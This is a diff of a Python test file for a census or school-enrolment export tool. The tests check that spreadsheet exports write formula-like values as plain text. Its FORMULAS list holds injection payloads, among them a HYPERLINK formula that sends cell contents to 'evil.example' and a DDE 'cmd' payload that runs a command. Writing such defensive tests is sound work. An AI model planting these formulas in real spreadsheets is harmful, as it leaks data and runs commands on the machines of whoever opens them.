@@ -17,26 +17,53 @@ from census.importer import ImportReport, RowError, write_rejects
 from kernel.cells import csv_cell, uncsv_cell
 from kernel.tabular import open_table
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"คลิก")', "+1+1", "-2+3", "@SUM(A1:A2)",
-            "=cmd|' /C calc'!A0"]  # fmt: skip
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"คลิก")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "=cmd|' /C calc'!A0",
+]
 
 
 def _cell_xml(book: bytes) -> str:
     """Every worksheet's XML: a formula would appear as an <f> element."""
     with zipfile.ZipFile(io.BytesIO(book)) as archive:
-        return "".join(archive.read(n).decode() for n in archive.namelist()
-                       if n.startswith("xl/worksheets/"))  # fmt: skip
+        return "".join(
+            archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")
+        )
 
 
 def _listed(first_name: str) -> dict:
-    child = {"id": 1, "title": "ด.ช.", "first_name": first_name, "last_name": "=1+2",
-             "sex": "M", "birth_date": dt.date(2021, 3, 15), "guardian_name": "@guardian",
-             "guardian_relationship": "บิดา", "house_number": "-12"}  # fmt: skip
-    return {"school_code": "9955010001", "school_name_th": "=โรงเรียน", "round": 2569,
-            "entry_year": 2570, "children": 1, "follow_up_of_last_round": [],
-            "villages": [{"subdistrict_code": "550101", "subdistrict_name": "ในเวียง", "moo": 4,
-                          "village_code": "55010104", "village_name": "+บ้าน",
-                          "children": [child]}]}  # fmt: skip
+    child = {
+        "id": 1,
+        "title": "ด.ช.",
+        "first_name": first_name,
+        "last_name": "=1+2",
+        "sex": "M",
+        "birth_date": dt.date(2021, 3, 15),
+        "guardian_name": "@guardian",
+        "guardian_relationship": "บิดา",
+        "house_number": "-12",
+    }
+    return {
+        "school_code": "9955010001",
+        "school_name_th": "=โรงเรียน",
+        "round": 2569,
+        "entry_year": 2570,
+        "children": 1,
+        "follow_up_of_last_round": [],
+        "villages": [
+            {
+                "subdistrict_code": "550101",
+                "subdistrict_name": "ในเวียง",
+                "moo": 4,
+                "village_code": "55010104",
+                "village_name": "+บ้าน",
+                "children": [child],
+            }
+        ],
+    }
 
 
 @pytest.mark.parametrize("name", FORMULAS)
@@ -51,10 +78,13 @@ def test_call_list_xlsx_writes_formulas_as_text(name: str) -> None:
 
 def test_report_xlsx_and_csv_write_school_and_tambon_names_as_text() -> None:
     report = {
-        "round": 2569, "area_name_th": "=AREA()", "produced_on": "1 ธ.ค. 2569",
-        "totals": {}, "subdistricts": [{"name_th": "=SUM(1,2)", "subdistrict_code": "550101"}],
+        "round": 2569,
+        "area_name_th": "=AREA()",
+        "produced_on": "1 ธ.ค. 2569",
+        "totals": {},
+        "subdistricts": [{"name_th": "=SUM(1,2)", "subdistrict_code": "550101"}],
         "schools": [{"name_th": "@school", "code": "9955010001"}],
-    }  # fmt: skip
+    }
     from app.report import render as reports
 
     report["totals"] = dict.fromkeys(reports.TOTAL_LABELS_TH, 0)
